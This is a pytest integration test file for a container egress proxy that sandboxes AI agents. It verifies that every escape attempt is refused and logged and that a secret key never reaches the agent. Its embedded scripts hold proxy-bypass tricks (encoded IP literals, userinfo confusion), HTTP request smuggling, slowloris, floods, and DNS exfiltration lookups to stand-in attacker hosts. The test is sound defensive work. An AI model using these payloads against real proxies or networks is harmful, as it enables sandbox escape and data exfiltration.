"""A real agent in a container, joined to the egress bridge, tries every way out. Each
attempt is checked where it would land: servers on the host's loopback that record every
connection (they must have seen only what the policy allows), and the events of the proxy.
The route test checks that the upstream got the real key from a real Secret Service while
the agent, its environment and the audit log only ever held the placeholder."""

from __future__ import annotations

import asyncio
import ssl
from pathlib import Path
from typing import Any

import docker
import pytest
import trustme

from app.audit import AuditLog
from app.consent import ConsentBroker, Verdict
from app.container import LABEL_SESSION
from app.egress.bridge import Egress
from app.egress.keys import KeyringSecrets
from app.egress.proxy import ProxySettings
from app.events import Event, EventBus
from app.paths import Dirs
from app.profiles import ProfileCatalog, parse_profile
from app.sessions import LaunchRequest, SessionResult, Supervisor
from app.store import StateStore
from tests.netsupport import (
    EchoServer,
    RecordingListener,
    RecordingServer,
    ScriptedFrontEnd,
    StaticResolver,
    ca,
    secret_service,
    trusted_context,
)
from tests.support import CollectedOutput, containers, profile_text

__all__ = ["ca", "secret_service"]
pytestmark = pytest.mark.docker


@pytest.fixture
def dirs(tmp_path: Path) -> Dirs:
    # Short: the proxy's socket path must fit a unix socket address.
    dirs = Dirs(config=tmp_path / "c", state=tmp_path / "s", runtime=tmp_path / "r")
    dirs.ensure()
    return dirs


def run_agent(
    dirs: Dirs, engine: docker.DockerClient, egress: Egress, bus: EventBus, profile: str
) -> tuple[SessionResult, str, list[Event]]:
    store = StateStore(dirs.database)
    events: list[Event] = []
    bus.attach(events.append)
    supervisor = Supervisor(
        engine, store, bus, dirs, ProfileCatalog(dirs.user_profiles), extensions=[egress]
    )
    request = LaunchRequest(parse_profile(profile, "t.toml"), Path("t.toml"))
    output = CollectedOutput()
    try:
        result = asyncio.run(supervisor.run(request, output))
    finally:
        store.close()
    return result, output.text(), events


ESCAPES = r"""
A=$ALLOWED; D=$DENIED; L=$LISTENER
code() { name=$1; shift
  curl -sS -o /dev/null -w "$name:%{http_code}/%{http_connect}\n" --max-time 10 "$@" \
    2>/dev/null || true; }
env | grep -i -E '^(https?_proxy|no_proxy)=' | sort
code allowed "http://allowed.test:$A/ok"
python3 -c "import urllib.request as u; print('urllib:', u.urlopen('http://allowed.test:$A/urllib').status)"
code denied "http://denied.test:$D/x"
code userinfo "http://allowed.test:$A@denied.test:$D/"
code literal --noproxy '' "http://127.0.0.1:$D/"
code decimal --noproxy '' -p "http://2130706433:$D/"
code hexa --noproxy '' -p "http://0x7f.1:$D/"
code ipv6 --noproxy '' -p "http://[::1]:$D/"
code mapped --noproxy '' -p "http://[::ffff:127.0.0.1]:$D/"
code dnsname "http://leak.attacker.test:$D/"
python3 - <<PY
import socket, time
for what, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", $L)); s.send(b"x"); s.recv(1)
        print(what + ": connected")
    except OSError as e:
        print(what + ": " + type(e).__name__)
try:
    socket.getaddrinfo("example.com", 80)
    print("dns: resolved")
except OSError as e:
    print("dns: " + type(e).__name__)
def ask(data, wait=0):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(data)
    time.sleep(wait)
    return s.recv(200).split(b"\r\n")[0].decode()
print("host-mismatch:", ask(b"GET http://allowed.test:$A/ HTTP/1.1\r\nHost: denied.test\r\n\r\n"))
print("smuggle:", ask(b"POST http://allowed.test:$A/ HTTP/1.1\r\nHost: allowed.test:$A\r\n"
      b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
      b"GET /smuggled HTTP/1.1\r\n\r\n"))
print("oversize:", ask(b"GET http://allowed.test:$A/ HTTP/1.1\r\nHost: allowed.test:$A\r\nX: "
      + b"a" * 70000 + b"\r\n\r\n"))
print("slowloris:", ask(b"GET http://allowed.test:$A/ HTTP/1.1\r\nHo", wait=2))
PY
code after "http://allowed.test:$A/after"
"""


@pytest.mark.engines
def test_every_way_out_but_the_proxy_is_closed(
    dirs: Dirs, engine: docker.DockerClient, agent_image: str
) -> None:
    with RecordingServer() as allowed, RecordingServer() as denied, RecordingListener() as listener:
        resolver = StaticResolver(
            {
                "allowed.test": ["127.0.0.1"],
                "denied.test": ["127.0.0.1"],
                "leak.attacker.test": ["127.0.0.1"],
            }
        )
        bus = EventBus()
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=ConsentBroker(bus, ScriptedFrontEnd(Verdict.DENY)),
            resolver=resolver,
            settings=ProxySettings(head_timeout=1.0),
        )
        network = f'[network]\nallow = ["allowed.test:{allowed.port}"]\nallow_private = true\n'
        text = profile_text(agent_image, ["sh", "-c", ESCAPES], pids=128)
        text = (
            text.replace(
                'timeout = "2m"\n',
                'timeout = "2m"\n'
                f'env = {{ ALLOWED = "{allowed.port}", DENIED = "{denied.port}", '
                f'LISTENER = "{listener.port}" }}\n',
            )
            + network
        )
        result, output, events = run_agent(dirs, engine, egress, bus, text)
        assert containers(engine, f"{LABEL_SESSION}={result.session}") == []
    lines = dict(
        line.split(":", 1)
        for line in output.splitlines()
        if ":" in line and "=" not in line.split(":", 1)[0]
    )
    assert result.exit_code == 0, output
    assert "HTTP_PROXY=http://127.0.0.1:3128" in output
    assert lines["allowed"] == "200/000" and lines["urllib"].strip() == "200"
    assert lines["after"] == "200/000"
    for name in ("denied", "literal", "dnsname"):
        assert lines[name] == "403/000", (name, output)
    for name in ("decimal", "hexa", "ipv6", "mapped"):  # CONNECT refused: curl's http_connect
        assert lines[name] == "000/403", (name, output)
    assert lines["userinfo"] in ("400/000", "403/000")
    assert lines["tcp"].strip() == "ConnectionRefusedError"
    assert lines["dns"].strip() == "gaierror"
    assert lines["host-mismatch"].strip().startswith("HTTP/1.1 400")
    assert lines["smuggle"].strip().startswith("HTTP/1.1 400")
    assert lines["oversize"].strip().startswith("HTTP/1.1 431")
    assert lines["slowloris"].strip().startswith("HTTP/1.1 408")
    # At the receiving end: only what the policy allows ever arrived.
    assert [r["path"] for r in allowed.seen.requests] == ["/ok", "/urllib", "/after"]
    assert denied.seen.connections == 0 and denied.seen.requests == []
    assert listener.hits == []
    assert "leak.attacker.test" not in resolver.asked
    refused = [e for e in events if e.kind == "net.refused"]
    assert len(refused) >= 12
    assert {e.details["rule"] for e in refused} >= {
        "not-listed",
        "ip-literal",
        "bad-request",
        "host-mismatch",
        "timeout",
    }


@pytest.mark.engines
def test_route_key_reaches_the_upstream_and_never_the_agent(
    dirs: Dirs,
    engine: docker.DockerClient,
    agent_image: str,
    ca: trustme.CA,
    secret_service: Any,
) -> None:
    key = "sk-live-" + "K9" * 20
    secrets = KeyringSecrets(dirs.config / "secrets")
    secrets.set("llm-key", key)
    cert = ca.issue_cert("localhost")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    cert.configure_cert(context)
    with RecordingServer(context) as upstream:
        bus = EventBus()
        audit = AuditLog(dirs.audit)
        bus.attach(audit.sink)
        egress = Egress(
            engine,
            secrets=secrets,
            broker=None,
            resolver=StaticResolver({"localhost": ["127.0.0.1"]}),
            tls=trusted_context(ca),
        )
        script = (
            'env; curl -sS -i -H "Authorization: Bearer placeholder" '
            '"$AIRLOCK_ROUTE_LLM/echo-auth"; cat /proc/self/environ | tr "\\0" "\\n"'
        )
        text = profile_text(agent_image, ["sh", "-c", script]) + (
            '[network]\nallow_private = true\n[[network.routes]]\nname = "llm"\n'
            f'upstream = "https://localhost:{upstream.port}/v1"\nsecret = "llm-key"\n'
        )
        result, output, _ = run_agent(dirs, engine, egress, bus, text)
        audit.close()
    assert result.exit_code == 0, output
    assert "AIRLOCK_ROUTE_LLM=http://127.0.0.1:3128/routes/llm" in output
    assert [r["headers"]["authorization"] for r in upstream.seen.requests] == [f"Bearer {key}"]
    assert "you sent: Bearer " + "*" * len(key) in output
    assert key not in output
    logged = b"".join(p.read_bytes() for p in dirs.audit.glob("*.jsonl"))
    assert b"route:llm" in logged and key.encode() not in logged


DIRECT = r"""
import socket, subprocess
def attempt(name, family, kind, address):
    s = socket.socket(family, kind)
    s.settimeout(5)
    try:
        s.connect(address)
        s.send(b"x")
        s.recv(1)
        print(name + ": connected")
    except OSError as e:
        print(name + ": " + type(e).__name__)
attempt("tcp4", socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.5", 443))
attempt("udp4", socket.AF_INET, socket.SOCK_DGRAM, ("203.0.113.5", $LISTENER))
attempt("tcp6", socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::5", 443))
attempt("udp6", socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::5", 9999))
attempt("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $LISTENER))
try:
    socket.getaddrinfo("secret-part.exfil.example", 443)
    print("getaddrinfo: resolved")
except OSError as e:
    print("getaddrinfo: " + type(e).__name__)
getent = subprocess.run(["getent", "hosts", "example.com"], capture_output=True)
print("getent:", getent.returncode)
"""


def blocked_events(events: list[Event]) -> list[Event]:
    return [e for e in events if e.kind == "net.blocked"]


@pytest.mark.engines
@pytest.mark.parametrize("with_proxy", [False, True], ids=["witness-alone", "with-proxy"])
def test_direct_attempts_to_leave_are_events_and_reach_nobody(
    dirs: Dirs, engine: docker.DockerClient, agent_image: str, with_proxy: bool
) -> None:
    with RecordingListener() as listener, RecordingServer() as allowed:
        bus = EventBus()
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=None,
            resolver=StaticResolver({"allowed.test": ["127.0.0.1"]}),
        )
        script = DIRECT.replace("$LISTENER", str(listener.port))
        text = profile_text(agent_image, ["python3", "-c", script])
        if with_proxy:
            text += f'[network]\nallow = ["allowed.test:{allowed.port}"]\nallow_private = true\n'
        result, output, events = run_agent(dirs, engine, egress, bus, text)
    lines = dict(line.split(": ", 1) for line in output.splitlines() if ": " in line)
    assert result.exit_code == 0, output
    # The agent fails at once (RST, ICMP unreachable), not after a time-out.
    for name in ("tcp4", "udp4", "tcp6", "udp6", "loopback"):
        assert lines[name] == "ConnectionRefusedError", (name, output)
    assert lines["getaddrinfo"] == "gaierror" and lines["getent"] != "0"
    assert listener.hits == [] and allowed.seen.connections == 0
    blocked = blocked_events(events)
    by_subject = {e.subject: e.details for e in blocked}
    assert by_subject["203.0.113.5:443"]["protocol"] == "tcp"
    assert by_subject["203.0.113.5:443"]["family"] == 4
    assert by_subject[f"203.0.113.5:{listener.port}"]["protocol"] == "udp"
    assert by_subject["[2001:db8::5]:443"] == {
        "protocol": "tcp",
        "family": 6,
        "address": "2001:db8::5",
        "port": 443,
        "count": 1,
        "decision": "deny",
        "rule": "no-route",
        "reason": "direct TCP connection: the only way out is the proxy",
    }
    assert by_subject["[2001:db8::5]:9999"]["protocol"] == "udp"
    names = {(e.details["name"], e.details["qtype"]) for e in blocked if "name" in e.details}
    assert {("secret-part.exfil.example", 1), ("example.com", 1)} <= names, names
    assert all(e.session == result.session for e in blocked)
    # Loopback stays inside the namespace: it is not an attempt to leave.
    assert not any(e.details.get("address") == "127.0.0.1" for e in blocked)


FLOOD = r"""
import socket, threading, time, urllib.request
done = threading.Event()
def flood():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(4000):
        try:
            udp.sendto(b"x" * 32, ("203.0.113.%d" % (i % 250 + 1), 1000 + i % 7))
        except OSError:
            pass
    for i in range(300):
        s = socket.socket()
        s.settimeout(3)
        try:
            s.connect(("198.51.100.7", 2000 + i))
        except OSError:
            pass
        s.close()
    done.set()
thread = threading.Thread(target=flood)
thread.start()
served = 0
while not done.is_set() or served < 5:
    with urllib.request.urlopen("http://allowed.test:$ALLOWED/during", timeout=10) as r:
        served += r.status == 200
thread.join()
print("served:", served)
"""


def test_a_flood_of_attempts_is_counted_not_streamed_and_the_proxy_keeps_serving(
    dirs: Dirs, engine: docker.DockerClient, agent_image: str
) -> None:
    with RecordingServer() as allowed:
        bus = EventBus()
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=None,
            resolver=StaticResolver({"allowed.test": ["127.0.0.1"]}),
        )
        script = FLOOD.replace("$ALLOWED", str(allowed.port))
        text = profile_text(agent_image, ["python3", "-c", script]) + (
            f'[network]\nallow = ["allowed.test:{allowed.port}"]\nallow_private = true\n'
        )
        result, output, events = run_agent(dirs, engine, egress, bus, text)
    assert result.exit_code == 0, output
    served = int(output.split("served:")[1].split()[0])
    assert served >= 5 and len(allowed.seen.requests) == served
    blocked = blocked_events(events)
    counted = sum(int(e.details["count"]) for e in blocked)
    print(f"{len(blocked)} events for {counted} attempts counted of 4300 sent")
    assert len(blocked) <= 300, len(blocked)
    # Every attempt is counted — packets the device's queue dropped too — but past the
    # first ones they come as counts, not one event each.
    assert 4300 <= counted <= 4400, counted
    assert any(e.details.get("coalesced") for e in blocked)
    assert {e.subject for e in blocked if not e.details.get("coalesced")} <= {
        f"203.0.113.{i % 250 + 1}:{1000 + i % 7}" for i in range(4000)
    } | {f"198.51.100.7:{2000 + i}" for i in range(300)}


TUNNEL = r"""
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT allowed.test:$ECHO HTTP/1.1\r\nHost: allowed.test:$ECHO\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
print("tunnel:", head.split(b"\r\n")[0].decode())
s.sendall(b"before")
print("echo:", s.recv(6).decode(), flush=True)
s.settimeout(60)
try:
    print("cut:", s.recv(100) == b"")
except OSError as e:
    print("cut:", type(e).__name__)
try:
    for _ in range(20):
        s.sendall(b"after")
except OSError as e:
    print("send:", type(e).__name__)
again = socket.create_connection(("127.0.0.1", 3128))
again.sendall(b"CONNECT allowed.test:$ECHO HTTP/1.1\r\nHost: allowed.test:$ECHO\r\n\r\n")
print("again:", again.recv(200).split(b"\r\n")[0].decode())
"""


def test_blocking_all_network_cuts_the_tunnel_an_agent_has_open(
    dirs: Dirs, engine: docker.DockerClient, agent_image: str
) -> None:
    """The user's "Block all network" in the middle of an agent's open tunnel: the tunnel
    ends at once, and what the agent sends after it never reaches the server."""
    with EchoServer() as echo:
        bus = EventBus()
        events: list[Event] = []
        bus.attach(events.append)
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=None,
            resolver=StaticResolver({"allowed.test": ["127.0.0.1"]}),
        )
        text = profile_text(
            agent_image, ["python3", "-c", TUNNEL.replace("$ECHO", str(echo.port))]
        ) + (f'[network]\nallow = ["allowed.test:{echo.port}"]\nallow_private = true\n')
        store = StateStore(dirs.database)
        supervisor = Supervisor(
            engine, store, bus, dirs, ProfileCatalog(dirs.user_profiles), extensions=[egress]
        )
        output = CollectedOutput()

        async def main() -> SessionResult:
            run = asyncio.ensure_future(
                supervisor.run(LaunchRequest(parse_profile(text, "t.toml"), Path("t.toml")), output)
            )
            while bytes(echo.received) != b"before" and not run.done():
                await asyncio.sleep(0.02)
            egress.block_all(True)
            return await run

        try:
            result = asyncio.run(main())
        finally:
            store.close()
    lines = dict(line.split(": ", 1) for line in output.text().splitlines() if ": " in line)
    assert result.exit_code == 0, output.text()
    assert lines["tunnel"].startswith("HTTP/1.1 200") and lines["echo"] == "before"
    assert lines["cut"] in ("True", "ConnectionResetError"), output.text()
    assert lines["again"].startswith("HTTP/1.1 403")
    assert bytes(echo.received) == b"before"  # at the server: nothing after the cut
    refused = [e for e in events if e.kind == "net.refused"]
    assert [e.details["rule"] for e in refused] == ["blocked-all", "blocked-all"]
    assert refused[0].details["reason"].startswith("cut:")
